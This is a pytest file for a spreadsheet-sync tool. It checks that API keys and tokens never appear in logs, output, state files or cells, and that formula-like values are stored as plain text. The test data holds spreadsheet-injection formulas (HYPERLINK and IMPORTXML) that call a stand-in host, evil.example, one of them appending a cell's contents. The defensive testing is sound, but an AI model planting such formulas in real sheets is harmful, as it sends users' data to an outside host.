"""Secrets never leak, and values that look like formulas stay text.

A full run with a known API key and Google token (distinctive strings): `sync --json` through
the CLI, then forced failures (401 with another key, 403 from a read-only key, a 5xx storm, a
sheet that is not shared) driven on a FakeClock. Every log record of every logger at DEBUG, in
the text and the JSON format (raw handlers WITHOUT the redaction filter: the secret must never
reach a record at all), the CLI output, each exception with its traceback, every byte of the
state file and its -wal/-shm, and every cell of every tab: neither secret appears anywhere.
"""

from __future__ import annotations

import copy
import io
import json
import logging
import traceback
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from click.testing import CliRunner

from sheetsync.app.cli import cli
from sheetsync.app.logs import TEXT_FORMAT, JsonFormatter
from sheetsync.clock import FakeClock
from sheetsync.config import load_config
from sheetsync.errors import SheetsyncError
from sheetsync.sandbox import Faults, Sandbox, SandboxServer, demo_seed
from sheetsync.sandbox.seed import SCOPES
from sheetsync.sync.cycle import open_sync
from sheetsync.testing.sheets_emulator import SheetsEmulator
from tests.engine import conftest as engine
from tests.engine.conftest import Harness, XlsxBook, default_tabs

clock, sandbox, server, h = engine.clock, engine.sandbox, engine.server, engine.h

API_KEY = "wsk_live_S3CRET-api-key-9f4c2e71d0"
READ_KEY = "wsk_live_S3CRET-read-only-key-5b8a"
WRONG_KEY = "wsk_live_S3CRET-revoked-key-11aa"
GOOGLE_TOKEN = "ya29.S3CRET-google-token-c0ffee42"
SECRETS = (API_KEY, READ_KEY, WRONG_KEY, GOOGLE_TOKEN)


def leaks(text: str | bytes) -> list[str]:
    if isinstance(text, bytes):
        return [s for s in SECRETS if s.encode() in text]
    # also the middle of a secret: a shortened or partly masked key still leaks
    return [s for s in SECRETS if s in text or s[8:-4] in text]


class Capture:
    """Raw DEBUG handlers on the root logger, text and JSON, with no redaction."""

    def __init__(self) -> None:
        self.text, self.json = io.StringIO(), io.StringIO()
        self.handlers = [logging.StreamHandler(self.text), logging.StreamHandler(self.json)]
        self.handlers[0].setFormatter(logging.Formatter(TEXT_FORMAT))
        self.handlers[1].setFormatter(JsonFormatter())
        self.root = logging.getLogger()
        self.saved: dict[str, int] = {}

    def __enter__(self) -> Capture:
        for name in ("", "sheetsync", "httpx", "httpcore", "urllib3", "google", "gspread"):
            self.saved[name] = logging.getLogger(name).level
            logging.getLogger(name).setLevel(logging.DEBUG)
        for hd in self.handlers:
            self.root.addHandler(hd)
        return self

    def __exit__(self, *exc: object) -> None:
        for hd in self.handlers:
            self.root.removeHandler(hd)
            hd.close()
        for name, level in self.saved.items():
            logging.getLogger(name).setLevel(level)

    def output(self) -> str:
        return self.text.getvalue() + self.json.getvalue()


def secret_seed() -> dict[str, Any]:
    s = copy.deepcopy(demo_seed())
    ws = s["workspaces"][0]
    ws["rateLimitPerMinute"] = 600
    ws["apiKeys"] = [
        {"key": API_KEY, "name": "all", "scopes": list(SCOPES)},
        {"key": READ_KEY, "name": "ro", "scopes": [x for x in SCOPES if x.endswith(":read")]},
    ]
    return s


@pytest.fixture(params=["xlsx", "google"])
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def world(tmp_path: Path, kind: str) -> Iterator[dict[str, Any]]:
    box = Sandbox(secret_seed())
    srv = SandboxServer(box)
    srv.start()
    emu = SheetsEmulator(tokens={GOOGLE_TOKEN}, read_quota_per_min=10_000)
    emu.write_quota_per_min = 10_000
    emu.start()
    tabs = default_tabs(4)
    if kind == "xlsx":
        spreadsheet = str(XlsxBook(tmp_path / "book.xlsx", tabs).path)
        google = ""
    else:
        spreadsheet = emu.create_spreadsheet(tabs)
        google = f'[google]\nauth = "token"\nsheets_base_url = "{emu.base_url}"\n'
    cfg = tmp_path / "sheetsync.toml"
    cfg.write_text(
        f'[warmysender]\nbase_url = "{srv.base_url}"\n{google}[state]\npath = "state/state.db"\n'
        f'[[sheet]]\nname = "acme"\nsource = "{kind}"\nspreadsheet = "{spreadsheet}"\n'
        f'settle_polls = 0\ncustom_fields = ["Industry"]\n',
        encoding="utf-8",
    )
    try:
        yield {"cfg": cfg, "sandbox": box, "emu": emu, "sid": spreadsheet, "kind": kind}
    finally:
        emu.close()
        srv.close()


def env(key: str = API_KEY) -> dict[str, str]:
    return {"WARMYSENDER_API_KEY": key, "SHEETSYNC_GOOGLE_TOKEN": GOOGLE_TOKEN}


def failing_cycle(w: dict[str, Any], key: str, *, fails: bool = True) -> list[str]:
    """One cycle on a FakeClock (retries cost no real time); the error's texts (with
    `fails=False`, a cycle whose refusals land in the rows: the row statuses)."""
    config = load_config(w["cfg"], env=env(key))
    shown: list[str] = []
    with open_sync(config, config.sheets[0], clock=FakeClock()) as ss:
        shown.append(repr(ss.api))
        try:
            ss.cycle()
        except SheetsyncError as exc:
            shown += [str(exc), repr(exc), "".join(traceback.format_exception(exc))]
            ss.state.record_failure("acme", str(exc))
        else:
            if fails:
                pytest.fail("the cycle should have failed")
            for role in ("prospects", "campaigns", "enrollments"):
                shown += [it.status for it in ss.state.items("acme", role).values()]
    return shown


def every_cell(w: dict[str, Any], tmp_path: Path) -> str:
    if w["kind"] == "xlsx":
        wb = openpyxl.load_workbook(w["sid"])
        values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        wb.close()
    else:
        emu: SheetsEmulator = w["emu"]
        titles = [s["properties"]["title"] for s in emu.metadata(w["sid"])["sheets"]]
        values = [v for t in titles for row in emu.values(w["sid"], t) for v in row]
    return "\n".join(str(v) for v in values if v is not None)


def test_no_secret_anywhere(world: dict[str, Any], tmp_path: Path) -> None:
    w = world
    shown: list[str] = []
    with Capture() as logs:
        runner = CliRunner(env=env())
        for args in (["sync", "--json"], ["plan"], ["status"]):
            result = runner.invoke(cli, ["--config", str(w["cfg"]), *args])
            shown += [result.stdout, result.stderr]
            assert result.exit_code in (0, 1), result.output
        first = json.loads(shown[0])
        assert (first["prospects_created"], first["enrolled"]) == (4, 4)
        assert logs.output(), "DEBUG records were captured"

        shown += failing_cycle(w, WRONG_KEY)  # 401
        assert "401" in shown[-1] or "unauthor" in shown[-3].lower()
        w["sandbox"].faults = Faults()
        xl = w["emu"]
        if w["kind"] == "xlsx":
            book = openpyxl.load_workbook(w["sid"])
            book["Prospects"].append(["new@example.com", "New"])
            book.save(w["sid"])
        else:
            xl.insert_rows(w["sid"], "Prospects", 7, [["new@example.com", "New"]])
        # 403 insufficient scope on POST /prospects: the new row says so
        shown += failing_cycle(w, READ_KEY, fails=False)
        assert any("lacks the prospects:write scope" in t for t in shown)
        w["sandbox"].faults = Faults(error_rate=1.0)
        shown += failing_cycle(w, API_KEY)  # 5xx storm until the retry deadline
        w["sandbox"].faults = Faults()
        if w["kind"] == "google":
            xl.share(w["sid"], allowed_tokens={"someone-else"})
            shown += failing_cycle(w, API_KEY)  # 403 from Google
            xl.share(w["sid"], allowed_tokens=None)
        result = CliRunner(env=env(WRONG_KEY)).invoke(
            cli, ["--config", str(w["cfg"]), "sync", "--json"]
        )
        assert result.exit_code == 3
        shown += [result.stdout, result.stderr]
        shown.append(logs.output())

    assert leaks(f"key={API_KEY[:-2]}..") and leaks(GOOGLE_TOKEN.encode())  # the check bites
    assert [leaks(t) for t in shown if leaks(t)] == []
    state_dir = tmp_path / "state"
    files = list(state_dir.iterdir())
    assert any(f.name == "state.db" for f in files)
    for f in files:  # state.db, state.db-wal, state.db-shm, the lock file
        assert leaks(f.read_bytes()) == [], f
    assert leaks(w["cfg"].read_bytes()) == []
    assert leaks(every_cell(w, tmp_path)) == []


# --- values that look like formulas stay text -------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_MESSAGE = '=IMPORTXML("http://evil.example","//a")'


class ForgeErrors(httpx.BaseTransport):
    """The real sandbox, except POST /prospects for `bad@` answers 422 with a formula message."""

    def __init__(self) -> None:
        self.inner = httpx.HTTPTransport()

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        if request.method == "POST" and b"bad@example.com" in request.read():
            body = {"error": {"code": "validation_error", "message": EVIL_MESSAGE}}
            return httpx.Response(422, json=body, request=request)
        return self.inner.handle_request(request)

    def close(self) -> None:
        self.inner.close()


def put_text(h: Harness, tab: str, row: int, col: int, text: str) -> None:
    """A person types text starting with '=' (Google: 'text, xlsx: a string cell)."""
    assert h.book is not None
    if h.kind == "xlsx":
        wb = openpyxl.load_workbook(h.book.spreadsheet)
        cell = wb[tab].cell(row=row, column=col + 1)
        cell.value, cell.data_type = text, "s"
        wb.save(h.book.spreadsheet)
    else:
        assert h.emu is not None
        url = f"{h.emu.base_url}/v4/spreadsheets/{h.book.spreadsheet}/values/{tab}!B{row}"
        with httpx.Client() as c:
            r = c.put(
                url,
                params={"valueInputOption": "RAW"},
                json={"values": [[text]]},
                headers={"Authorization": f"Bearer {engine.TOKEN}"},
            )
            r.raise_for_status()


def formulas(h: Harness) -> list[str]:
    """Every cell stored as a formula, in any tab."""
    assert h.book is not None
    found = []
    if h.kind == "xlsx":
        wb = openpyxl.load_workbook(h.book.spreadsheet)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
        return found
    assert h.emu is not None
    for title in [s["properties"]["title"] for s in h.emu.metadata(h.book.spreadsheet)["sheets"]]:
        tab = h.emu._tab(h.book.spreadsheet, title)  # noqa: SLF001 (how the cell is stored)
        for r, row in enumerate(tab.rows):
            found += [f"{title}!{r}:{c}" for c, v in enumerate(row) if v and v.formula]
    return found


def test_formula_looking_values_are_stored_as_text(h: Harness) -> None:
    tabs = default_tabs(2)
    tabs["Prospects"].append(["bad@example.com", "Bad"])
    h.make(tabs, name=EVIL_NAME)
    put_text(h, "Prospects", 2, 1, EVIL_NAME)  # p0's First Name
    assert h.table("Prospects")[0]["First Name"] == EVIL_NAME
    with h.through(httpx.Client(transport=ForgeErrors())):
        r = h.sync()
    assert r.prospects_created == 2
    [p0] = [p for p in h.ws()["prospects"] if p["email"] == "p0@example.com"]
    assert p0["firstName"] == EVIL_NAME  # sent as the text it is
    bad = h.row("Prospects", "Email", "bad@example.com")["Sync Status"]
    assert bad == f"error: WarmySender rejected the data: {EVIL_MESSAGE}"
    assert h.row("Sync Log", "Sheet", EVIL_NAME)["Created"] == 3  # the name, as text
    assert h.row("Prospects", "Email", "p0@example.com")["First Name"] == EVIL_NAME
    assert formulas(h) == []  # every "=" value above is stored as text


# --- a key typed where its variable's name belongs --------------------------------------------


@pytest.mark.parametrize("typed", [API_KEY, f"export WARMYSENDER_API_KEY={API_KEY}"])
def test_a_key_typed_into_api_key_env_is_never_shown(tmp_path: Path, typed: str) -> None:
    """`api_key_env` is the variable's NAME; a user who puts the key itself there gets a config
    error that says so, from every command, and the key is shown nowhere."""
    cfg = tmp_path / "sheetsync.toml"
    book = XlsxBook(tmp_path / "book.xlsx", default_tabs(1))
    cfg.write_text(
        f'[warmysender]\nbase_url = "http://127.0.0.1:9/api/v1"\napi_key_env = "{typed}"\n'
        f'[[sheet]]\nname = "acme"\nsource = "xlsx"\nspreadsheet = "{book.path}"\n',
        encoding="utf-8",
    )
    shown = []
    runner = CliRunner(env={"WARMYSENDER_API_KEY": ""})
    for args in (["sync"], ["check"], ["plan"], ["status"], ["run"], ["init"]):
        with Capture() as logs:
            result = runner.invoke(cli, ["--config", str(cfg), *args])
        shown += [result.stdout, result.stderr, logs.output()]
        assert result.exit_code in (1, 2), (args, result.output)
        assert "api_key_env: must be the NAME of the environment variable" in result.output
    assert [leaks(t) for t in shown if leaks(t)] == []
